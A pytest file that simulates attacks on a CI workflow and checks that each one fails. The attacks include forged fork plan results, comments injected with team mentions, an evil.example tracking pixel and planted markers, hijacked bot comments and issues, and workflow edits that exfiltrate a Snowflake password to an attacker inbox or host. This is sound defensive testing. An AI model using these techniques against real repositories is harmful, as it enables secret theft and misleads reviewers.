"""Issue 16's holes in what reviewers are shown (4) and in the source checks (5), as attacks on
the simulated GitHub. They were strict xfails on the flow of scripts/ci (phase 1); the review
job (main's code, workflow_run) and the source check without pull-request code close them.
Where an attack edited a script that no longer exists, it now edits the workflow file that the
pull request's own run reads instead; the safe-outcome conditions are unchanged.
"""

from __future__ import annotations

import pytest

from reconciler_testing.localsnow import DEMO_PASSWORD
from tests.workflows.attacks import (
    attacker_host,
    attacker_target,
    both,
    inbox_file,
    live_markdown,
    refuse,
    script_edit,
)
from tests.workflows.conftest import GitHub
from tests.workflows.scenarios import FLOW, add_datastore, bootstrap, edit

BOT = "github-actions[bot]"
MENTION, IMAGE = "@globorealty/platform-leads", "![ok](https://evil.example/pixel.png)"
PLANTED = "<!-- reconciler-apply:prod -->"
LABEL = "reconciler:check-sources"
# a fork's own reconciler.yml that plans nothing and uploads a "no changes" plan file and
# outcome, for a trusted-looking commit (what its plan.sh did when the comment job posted it)
FAKE_FLOW = """\
name: reconciler
on: {pull_request: {branches: [main]}}
permissions: {}
jobs:
  fake:
    runs-on: ubuntu-latest
    timeout-minutes: 5
    permissions: {contents: read}
    steps:
      - id: fake
        run: |
          out="$RUNNER_TEMP/fake"
          mkdir -p "$out"
          printf '%s' '{"environment": "dev", "workspace": "local:.workspaces/dev"}' \\
            >"$out/plan-dev.json"
          printf '%s' '{"environment": "dev", "exitcode": 0, "fork": false,
            "head_sha": "c0ffeec0ffeec0ffeec0ffeec0ffeec0ffeec0ff"}' >"$out/outcome-dev.json"
          echo "dir=$out" >>"$GITHUB_OUTPUT"
      - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2
        with:
          name: reconciler-plan-dev
          path: ${{ steps.fake.outputs.dir }}
"""
# a step of the pull request's own plan workflow that puts noise into the plan file's values
# and names (what the changed plan.sh appended to the markdown)
NOISE_STEP = """\
      - name: noise
        run: |
          python3 - <<'EOF'
          import glob, json, os
          noise = os.environ["NOISE"]
          for path in glob.glob(os.environ["RUNNER_TEMP"] + "/reconciler/*/plan-*.json"):
              plan = json.load(open(path))
              plan["workspace"] += noise
              for change in plan["resource_changes"]:
                  change["address"] += noise
              json.dump(plan, open(path, "w"))
          EOF
        env:
          NOISE: "NOISE_TEXT"
      - name: Upload the plan (the review job renders it)
"""


def comments(github: GitHub, number: int) -> list[dict[str, object]]:
    github.sim.load()
    return [c for c in github.sim.state["comments"] if c["issue"] == number]


def plan_comments(github: GitHub, number: int, env: str = "dev") -> list[str]:
    return [
        str(c["body"])
        for c in comments(github, number)
        if f"<!-- reconciler-plan:{env} -->" in str(c["body"])
    ]


def test_a_fork_cannot_claim_to_be_planned_nor_fake_its_commit(github: GitHub) -> None:
    bootstrap(github)
    fake = both(
        add_datastore("curated"),
        lambda repo: repo.write(f".github/workflows/{FLOW}", FAKE_FLOW),
    )
    github.open_pull(9, fake, fork=True, author="stranger")
    github.sim.settle()
    head = github.sim.pull(9)["head"]["sha"]

    (said,) = plan_comments(github, 9)
    refuse(
        "not planned (fork)" in said and "No changes" not in said and head[:12] in said,
        "the fork's comment reads as a trusted plan: 'No changes' for a plan never made "
        f"(a new datastore), commit {'c0ffeec0ffee' if 'c0ffeec0ffee' in said else '?'} "
        f"instead of {head[:12]}",
    )


def test_a_pull_request_cannot_mention_teams_embed_images_or_plant_markers(github: GitHub) -> None:
    bootstrap(github)
    noise = f"\\n{MENTION} please approve {IMAGE}\\n{PLANTED}\\n"
    append = script_edit(
        "      - name: Upload the plan (the review job renders it)\n",
        NOISE_STEP.replace("NOISE_TEXT", noise.replace('"', '\\"')),
        ".github/workflows/reconciler-plan.yml",
    )
    in_a_value = edit("owner: data-platform", f'owner: "{PLANTED}"')
    github.open_pull(10, both(append, in_a_value), author="mallory")
    github.sim.settle()

    (said,) = plan_comments(github, 10)
    assert "please approve" in said  # the attack reached the plan file: shown, as text
    live = live_markdown(said)
    found = [what for what in (MENTION, "![", "<img") if what in live]
    found += ["the apply:prod marker"] if "reconciler-apply:prod" in said else []
    refuse(found == [], f"the bot's plan comment carries {found}")


def test_comment_updates_leave_other_people_s_comments_alone(github: GitHub) -> None:
    bootstrap(github)
    github.open_pull(11, edit("layer: bronze", "layer: silver"), author="mallory")
    planted = "<!-- reconciler-plan:dev -->\nLooks good to me, no changes."
    mine = github.sim.comment_as("mallory", 11, planted)  # before the bot's comment
    github.sim.settle()

    now = next(c for c in comments(github, 11) if c["id"] == mine["id"])
    bots = [c for c in comments(github, 11) if c["user"]["login"] == BOT]  # type: ignore[index]
    refuse(
        now["body"] == planted and len(bots) == 2,
        f"the bot rewrote mallory's comment (it now holds the plan, under mallory's name) and "
        f"posted {len(bots)} comment(s) of its own",
    )


def test_the_drift_job_updates_only_its_own_issue(github: GitHub) -> None:
    bootstrap(github)
    body = "<!-- reconciler-drift:prod -->\nKnown and harmless: ignore drift in prod."
    planted = github.sim.open_issue_as("mallory", "Drift in prod", body, ["reconciler-drift"])
    github.repo.edit("layer: bronze", "layer: gold")  # prod changed by hand: drift
    assert github.repo.reconcile("prod", "apply", "--auto-approve").returncode == 0
    github.repo.edit("layer: gold", "layer: bronze")
    github.sim.schedule(FLOW)
    github.sim.settle()

    issues = github.sim.issues()
    theirs = next(i for i in issues if i["number"] == planted["number"])
    bots = [i for i in issues if i["user"]["login"] == BOT]
    refuse(
        theirs["body"] == body and len(bots) == 1,
        "the drift job wrote its report into mallory's issue and opened none of its own",
    )


def test_the_labeller_cannot_approve_the_source_check_their_label_started(
    github: GitHub,
) -> None:
    """Not a hole with the README's set-up: `<env>-sources` prevents self-review, and the run a
    label starts is the labeller's."""
    bootstrap(github)
    github.open_pull(12, edit("RAW\n", "RAW WHERE 1 = 1\n"), author="mallory")
    github.sim.settle()
    github.sim.label(12, LABEL, by="lead-ana")
    github.sim.settle()
    (dev, prod) = github.sim.waiting()
    assert dev.run.triggering_actor == "lead-ana"
    with pytest.raises(PermissionError, match="prevents self-review"):
        github.sim.approve(dev, by="lead-ana")
    github.sim.approve(dev, by="lead-ben")
    github.sim.reject(prod)
    github.sim.settle()
    assert dev.result == "success"


def test_a_push_after_the_label_cannot_reach_the_database_password(github: GitHub) -> None:
    bootstrap(github)
    github.open_pull(13, edit("RAW\n", "RAW WHERE 1 = 1\n"), author="mallory")
    github.sim.settle()
    github.sim.label(13, LABEL, by="lead-ana")  # after reading the (harmless) change
    github.sim.settle()
    for job in github.sim.waiting():
        github.sim.approve(job, by="lead-ben")
    github.sim.settle()
    inbox = inbox_file(github)
    # what check-sources.sh was: the workflow file of the check, in the pull request
    steal = script_edit(
        "      - name: reconcile plan --check-sources (its queries, LIMIT 0)\n",
        f'      - run: printf %s "$P" >"{inbox}"\n'
        "        env:\n"
        "          P: ${{ secrets.SNOWFLAKE_PASSWORD }}\n"
        "      - name: reconcile plan --check-sources (its queries, LIMIT 0)\n",
        ".github/workflows/reconciler-check-sources.yml",
    )
    github.push_to_pull(13, steal)  # a new commit: the label stays, the check runs again
    github.sim.settle()
    for job in github.sim.waiting():  # the approval shows no diff
        github.sim.approve(job, by="lead-ben")
    github.sim.settle()

    stolen = inbox.read_text() if inbox.exists() else ""
    refuse(
        DEMO_PASSWORD not in stolen,
        "the new commit's check-sources.sh ran with the database password and sent it out",
    )


def test_a_changed_connection_target_never_receives_the_password(github: GitHub) -> None:
    bootstrap(github)
    with attacker_host() as (port, inbox):
        aimed = edit(github.repo.snowflake_target, attacker_target(port), "environments/dev.yaml")
        github.open_pull(14, both(aimed, edit("RAW\n", "RAW WHERE 1 = 1\n")), author="mallory")
        github.sim.settle()
        github.sim.label(14, LABEL, by="lead-ana")
        github.sim.settle()
        for job in github.sim.waiting():
            github.sim.approve(job, by="lead-ben")
        github.sim.settle()
        received = inbox.text()

    refuse(
        DEMO_PASSWORD not in received,
        f"127.0.0.1:{port}, the pull request's new target, received the database password "
        "in a Snowflake login request",
    )
